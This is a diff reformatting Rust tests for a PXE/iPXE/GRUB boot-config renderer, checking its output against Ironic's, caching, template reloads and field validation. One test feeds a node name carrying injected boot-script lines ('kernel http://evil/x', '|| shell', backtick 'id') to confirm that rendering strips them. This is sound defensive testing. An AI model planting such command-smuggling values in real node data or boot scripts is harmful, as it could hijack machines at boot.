@@ -33,8 +33,14 @@ fn parked_store() -> Store {
         StateDoc::from_slice(&bytes).expect("fixture parses")
     };
     store.apply(vec![
-        (SourceId::File("nodes.json".into()), Update::Replace(read("nodes-parked.json"))),
-        (SourceId::File("ports.json".into()), Update::Replace(read("ports-parked.json"))),
+        (
+            SourceId::File("nodes.json".into()),
+            Update::Replace(read("nodes-parked.json")),
+        ),
+        (
+            SourceId::File("ports.json".into()),
+            Update::Replace(read("ports-parked.json")),
+        ),
     ]);
     store
 }
@@ -90,15 +96,28 @@ fn ipxe_scripts_match_what_ironic_wrote() {
         ("01-52-54-00-00-00-05", "n-rescue.httpboot.config"),
     ] {
         let ours = render_name(&r, &s, mac, Format::Ipxe);
-        let ironic = fs::read_to_string(format!("{FIXTURES}/ironic-written/{written}")).expect("fixture");
+        let ironic =
+            fs::read_to_string(format!("{FIXTURES}/ironic-written/{written}")).expect("fixture");
         let (ours_k, theirs_k) = (kernel_line(&ours.body), kernel_line(&ironic));
         assert_eq!(stable_params(ours_k), stable_params(theirs_k), "{written}");
-        let image = |l: &str| l.split_whitespace().nth(1).map(|u| u.rsplit('/').next().map(str::to_owned));
+        let image = |l: &str| {
+            l.split_whitespace()
+                .nth(1)
+                .map(|u| u.rsplit('/').next().map(str::to_owned))
+        };
         let ours_img = image(ours_k).flatten().expect("kernel url");
         // Ironic copies `ipa.kernel` to `<uuid>/deploy_kernel`; we point at the source.
-        let expected = if written.contains("rescue") { "rescue.kernel" } else { "ipa.kernel" };
+        let expected = if written.contains("rescue") {
+            "rescue.kernel"
+        } else {
+            "ipa.kernel"
+        };
         assert_eq!(ours_img, expected);
-        assert!(ours.body.contains(&format!("BOOTIF={mac}")), "{}", ours.body);
+        assert!(
+            ours.body.contains(&format!("BOOTIF={mac}")),
+            "{}",
+            ours.body
+        );
     }
 }
 
@@ -108,10 +127,15 @@ fn pxelinux_config_for_the_infiniband_node_matches_ironic() {
     let s = store.current();
     let r = renderer();
     let ours = render_name(&r, &s, "20-0c-42-a1-12-34-56", Format::Pxelinux);
-    let ironic = fs::read_to_string(format!("{FIXTURES}/ironic-written/n-ib-pxe.tftpboot.config"))
-        .expect("fixture");
+    let ironic = fs::read_to_string(format!(
+        "{FIXTURES}/ironic-written/n-ib-pxe.tftpboot.config"
+    ))
+    .expect("fixture");
     let append = |t: &str| {
-        let l = t.lines().find(|l| l.trim_start().starts_with("append initrd=")).expect("append");
+        let l = t
+            .lines()
+            .find(|l| l.trim_start().starts_with("append initrd="))
+            .expect("append");
         let mut v: Vec<String> = l
             .split_whitespace()
             .skip(2)
@@ -125,7 +149,11 @@ fn pxelinux_config_for_the_infiniband_node_matches_ironic() {
     theirs.push("rd.driver.pre=ib_ipoib".into()); // our IB-only parameter
     theirs.sort();
     assert_eq!(append(&ours.body), theirs);
-    assert!(ours.body.contains("BOOTIF=20-0c-42-a1-12-34-56"), "{}", ours.body);
+    assert!(
+        ours.body.contains("BOOTIF=20-0c-42-a1-12-34-56"),
+        "{}",
+        ours.body
+    );
     assert!(ours.body.contains("default deploy"));
     // PXELINUX speaks TFTP: images come from ironpxe's cache, never as http URLs.
     assert!(ours.body.contains("  kernel images/"), "{}", ours.body);
@@ -133,7 +161,11 @@ fn pxelinux_config_for_the_infiniband_node_matches_ironic() {
 
     // The same IB port asked under ARP type 1 (upstream-iPXE firmware) says so in BOOTIF.
     let as_eth = render_name(&r, &s, "01-0c-42-a1-12-34-56", Format::Pxelinux);
-    assert!(as_eth.body.contains("BOOTIF=01-0c-42-a1-12-34-56"), "{}", as_eth.body);
+    assert!(
+        as_eth.body.contains("BOOTIF=01-0c-42-a1-12-34-56"),
+        "{}",
+        as_eth.body
+    );
 }
 
 #[test]
@@ -146,7 +178,13 @@ fn every_format_renders_every_parked_node() {
         for f in [Format::Pxelinux, Format::Ipxe, Format::Grub] {
             let out = r.render(Some(&m), f, None, &server()).expect("renders");
             let ramdisk = out.action.name() != "local";
-            assert_eq!(out.body.contains("ipa-"), ramdisk, "{f} {}: {}", out.action, out.body);
+            assert_eq!(
+                out.body.contains("ipa-"),
+                ramdisk,
+                "{f} {}: {}",
+                out.action,
+                out.body
+            );
         }
     }
 }
@@ -159,10 +197,20 @@ fn local_boot_and_unknown_machines() {
     let active = render_name(&r, &s, "01-52-54-00-00-00-06", Format::Pxelinux);
     assert_eq!(active.action, Action::LocalBoot);
     assert!(active.body.contains("localboot 0"), "{}", active.body);
-    let unknown = r.render(None, Format::Ipxe, None, &server()).expect("renders");
-    assert!(unknown.body.contains("exit 0") && !unknown.body.contains("kernel "), "{}", unknown.body);
-    let entry = r.render(None, Format::IpxeEntry, None, &server()).expect("renders");
-    assert!(entry.body.contains("chain --autofree http://10.0.2.2:8080/ipxe/${net${netid}/mac:hexhyp}"));
+    let unknown = r
+        .render(None, Format::Ipxe, None, &server())
+        .expect("renders");
+    assert!(
+        unknown.body.contains("exit 0") && !unknown.body.contains("kernel "),
+        "{}",
+        unknown.body
+    );
+    let entry = r
+        .render(None, Format::IpxeEntry, None, &server())
+        .expect("renders");
+    assert!(entry
+        .body
+        .contains("chain --autofree http://10.0.2.2:8080/ipxe/${net${netid}/mac:hexhyp}"));
     assert!(entry.body.contains("http://10.0.2.2:8080/ipxe/unknown"));
 }
 
@@ -174,15 +222,23 @@ fn hostile_node_fields_cannot_add_lines_or_commands() {
         "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r"},
         "ports": [{"address": "52:54:00:00:00:01"}]}"#;
     let hostile = benign
-        .replace("\"n1\"", r#""n1\nkernel http://evil/x\r\n:boot ${x} || shell; `id` \"q\" #c""#)
+        .replace(
+            "\"n1\"",
+            r#""n1\nkernel http://evil/x\r\n:boot ${x} || shell; `id` \"q\" #c""#,
+        )
         .replace("\"r1\"", r#""r1\nshell\u2028x""#);
     let r = renderer();
     for (json, label) in [(benign, "benign"), (hostile.as_str(), "hostile")] {
         let store = Store::new(IndexConfig::default());
         let doc = StateDoc::from_slice(json.as_bytes()).expect(label);
-        store.apply(vec![(SourceId::File("a.json".into()), Update::Replace(doc))]);
+        store.apply(vec![(
+            SourceId::File("a.json".into()),
+            Update::Replace(doc),
+        )]);
         let s = store.current();
-        let m = s.by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac")).expect("node");
+        let m = s
+            .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
+            .expect("node");
         for f in Format::ALL {
             let out = r.render(Some(&m), f, None, &server()).expect("renders");
             let benign_lines = {
@@ -192,11 +248,26 @@ fn hostile_node_fields_cannot_add_lines_or_commands() {
                     Update::Replace(StateDoc::from_slice(benign.as_bytes()).expect("benign")),
                 )]);
                 let bs = b.current();
-                let bm = bs.by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac")).expect("node");
-                r.render(Some(&bm), f, None, &server()).expect("renders").body.lines().count()
+                let bm = bs
+                    .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
+                    .expect("node");
+                r.render(Some(&bm), f, None, &server())
+                    .expect("renders")
+                    .body
+                    .lines()
+                    .count()
             };
-            assert_eq!(out.body.lines().count(), benign_lines, "{label} {f}:\n{}", out.body);
-            assert!(!out.body.contains("evil/x\n") && !out.body.contains("`id`"), "{}", out.body);
+            assert_eq!(
+                out.body.lines().count(),
+                benign_lines,
+                "{label} {f}:\n{}",
+                out.body
+            );
+            assert!(
+                !out.body.contains("evil/x\n") && !out.body.contains("`id`"),
+                "{}",
+                out.body
+            );
             assert!(!out.body.contains("\nshell"), "{}", out.body);
         }
     }
@@ -218,12 +289,22 @@ fn unsafe_parameters_and_urls_are_refused_with_the_field_named() {
         );
         let store = Store::new(IndexConfig::default());
         let doc = StateDoc::from_slice(json.as_bytes()).expect("parses");
-        store.apply(vec![(SourceId::File("a.json".into()), Update::Replace(doc))]);
+        store.apply(vec![(
+            SourceId::File("a.json".into()),
+            Update::Replace(doc),
+        )]);
         let s = store.current();
-        let m = s.by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac")).expect("node");
-        let err = r.render(Some(&m), Format::Ipxe, None, &server()).unwrap_err();
+        let m = s
+            .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
+            .expect("node");
+        let err = r
+            .render(Some(&m), Format::Ipxe, None, &server())
+            .unwrap_err();
         let msg = err.to_string();
-        assert!(msg.contains("kernel parameter") && msg.contains(bad), "{msg}");
+        assert!(
+            msg.contains("kernel parameter") && msg.contains(bad),
+            "{msg}"
+        );
     }
     assert!(check_token("k", "http://x/a?b=1&c=2", Format::Ipxe).is_ok());
     assert!(check_token("k", "&&", Format::Ipxe).is_err());
@@ -240,20 +321,30 @@ fn renders_are_cached_per_node_revision_and_swept_precisely() {
     let a = render_name(&r, &s1, "01-52-54-00-00-00-01", Format::Ipxe);
     let b = render_name(&r, &s1, "01-52-54-00-00-00-02", Format::Ipxe);
     let again = render_name(&r, &s1, "01-52-54-00-00-00-01", Format::Ipxe);
-    assert!(Arc::ptr_eq(&a.body, &again.body), "second render is a cache hit");
+    assert!(
+        Arc::ptr_eq(&a.body, &again.body),
+        "second render is a cache hit"
+    );
     assert_eq!(r.cached(), 2);
 
     // Change node 1 only: its entry goes, node 2's stays.
-    let mut nodes = StateDoc::from_slice(&fs::read(format!("{FIXTURES}/nodes-parked.json")).expect("f"))
-        .expect("parses");
+    let mut nodes =
+        StateDoc::from_slice(&fs::read(format!("{FIXTURES}/nodes-parked.json")).expect("f"))
+            .expect("parses");
     nodes.nodes[0].provision_state = crate::node::ProvisionState::Active;
-    let s2 = store.apply(vec![(SourceId::File("nodes.json".into()), Update::Replace(nodes))]);
+    let s2 = store.apply(vec![(
+        SourceId::File("nodes.json".into()),
+        Update::Replace(nodes),
+    )]);
     r.sweep(&s2);
     assert_eq!(r.cached(), 1);
     let a2 = render_name(&r, &s2, "01-52-54-00-00-00-01", Format::Ipxe);
     assert_eq!(a2.action, Action::LocalBoot);
     let b2 = render_name(&r, &s2, "01-52-54-00-00-00-02", Format::Ipxe);
-    assert!(Arc::ptr_eq(&b.body, &b2.body), "unchanged node still cached");
+    assert!(
+        Arc::ptr_eq(&b.body, &b2.body),
+        "unchanged node still cached"
+    );
 
     // A different server URL is a different entry.
     let m = s2.by_mac(&crate::addr::Mac::parse("52:54:00:00:00:02").expect("mac"));
@@ -261,13 +352,19 @@ fn renders_are_cached_per_node_revision_and_swept_precisely() {
         http_url: "http://192.0.2.9".into(),
         tftp_server: "192.0.2.9".into(),
     };
-    let c = r.render(m.as_ref(), Format::Ipxe, Some(HwType::Ethernet), &other).expect("renders");
+    let c = r
+        .render(m.as_ref(), Format::Ipxe, Some(HwType::Ethernet), &other)
+        .expect("renders");
     assert!(!Arc::ptr_eq(&b2.body, &c.body));
 }
 
 fn copy_templates(to: &Path) {
     for f in Format::ALL {
-        fs::copy(Path::new(TEMPLATES).join(f.template()), to.join(f.template())).expect("copy");
+        fs::copy(
+            Path::new(TEMPLATES).join(f.template()),
+            to.join(f.template()),
+        )
+        .expect("copy");
     }
 }
 
@@ -276,27 +373,48 @@ fn a_broken_template_keeps_the_last_good_set_and_names_line_and_column() {
     let dir = tempfile::tempdir().expect("tempdir");
     copy_templates(dir.path());
     let r = Renderer::new(dir.path(), boot_cfg()).expect("loads");
-    let before = r.render(None, Format::IpxeEntry, None, &server()).expect("renders");
+    let before = r
+        .render(None, Format::IpxeEntry, None, &server())
+        .expect("renders");
     assert_eq!(r.generation(), 1);
 
-    fs::write(dir.path().join("boot.ipxe.tera"), "#!ipxe\nline two\n{% if %}\n").expect("write");
+    fs::write(
+        dir.path().join("boot.ipxe.tera"),
+        "#!ipxe\nline two\n{% if %}\n",
+    )
+    .expect("write");
     assert!(!r.reload());
     let errs = r.errors().join("\n");
-    assert!(errs.contains("boot.ipxe.tera") && errs.contains("3:"), "{errs}");
-    let still = r.render(None, Format::IpxeEntry, None, &server()).expect("renders");
+    assert!(
+        errs.contains("boot.ipxe.tera") && errs.contains("3:"),
+        "{errs}"
+    );
+    let still = r
+        .render(None, Format::IpxeEntry, None, &server())
+        .expect("renders");
     assert_eq!(still.body, before.body);
     assert_eq!(r.generation(), 1);
 
     // Parses, but names a variable that does not exist: refused at load, not at boot time.
-    fs::write(dir.path().join("boot.ipxe.tera"), "#!ipxe\nchain {{ server.nope }}\n").expect("write");
+    fs::write(
+        dir.path().join("boot.ipxe.tera"),
+        "#!ipxe\nchain {{ server.nope }}\n",
+    )
+    .expect("write");
     assert!(!r.reload());
     assert!(r.errors().join("\n").contains("nope"), "{:?}", r.errors());
 
-    fs::write(dir.path().join("boot.ipxe.tera"), "#!ipxe\nchain {{ server.http_url }}/x\n").expect("write");
+    fs::write(
+        dir.path().join("boot.ipxe.tera"),
+        "#!ipxe\nchain {{ server.http_url }}/x\n",
+    )
+    .expect("write");
     assert!(r.reload());
     assert!(r.errors().is_empty());
     assert_eq!(r.generation(), 2);
-    let after = r.render(None, Format::IpxeEntry, None, &server()).expect("renders");
+    let after = r
+        .render(None, Format::IpxeEntry, None, &server())
+        .expect("renders");
     assert_eq!(&*after.body, "#!ipxe\nchain http://10.0.2.2:8080/x\n");
 }
 
@@ -304,7 +422,9 @@ fn a_broken_template_keeps_the_last_good_set_and_names_line_and_column() {
 fn missing_templates_are_listed() {
     let dir = tempfile::tempdir().expect("tempdir");
     fs::write(dir.path().join("ipxe.tera"), "#!ipxe\n").expect("write");
-    let errs = Renderer::new(dir.path(), boot_cfg()).err().expect("refused");
+    let errs = Renderer::new(dir.path(), boot_cfg())
+        .err()
+        .expect("refused");
     let joined = errs.join("\n");
     for f in ["pxelinux.tera", "grub.tera", "boot.ipxe.tera"] {
         assert!(joined.contains(f), "{joined}");
@@ -322,11 +442,16 @@ fn template_directory_is_watched() {
     fs::rename(&tmp, dir.path().join("boot.ipxe.tera")).expect("rename");
     let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
     loop {
-        let out = r.render(None, Format::IpxeEntry, None, &server()).expect("renders");
+        let out = r
+            .render(None, Format::IpxeEntry, None, &server())
+            .expect("renders");
         if out.body.contains("echo edited 10.0.2.2") {
             break;
         }
-        assert!(std::time::Instant::now() < deadline, "template edit not picked up");
+        assert!(
+            std::time::Instant::now() < deadline,
+            "template edit not picked up"
+        );
         std::thread::sleep(std::time::Duration::from_millis(10));
     }
 }
